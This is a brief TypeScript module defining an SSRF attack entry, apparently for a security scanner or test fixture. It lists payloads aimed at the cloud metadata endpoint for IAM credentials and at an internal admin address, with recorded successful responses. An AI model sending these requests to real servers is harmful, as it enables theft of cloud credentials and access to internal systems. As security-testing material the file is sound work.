import { injection } from "./injection.ts";
import { SSRF } from "./payloads/ssrf.ts";

export const injectionSsrf = injection({
  class: "ssrf",
  title: "addresses that only the server should reach",
  payloads: SSRF,
  points: ["url", "url", "url", "file"],
  exploits: [
    {
      payload: "http://169.254.169.254/latest/meta-data/iam/security-credentials/shop-api",
      size: 1_318,
      status: 200,
    },
    { payload: "http://169.254.169.254/latest/meta-data/", size: 310, status: 200 },
    { payload: "http://10.20.6.31:8080/admin", size: 6_402, status: 200 },
  ],
  tools: ["Go-http-client/1.1"],
});
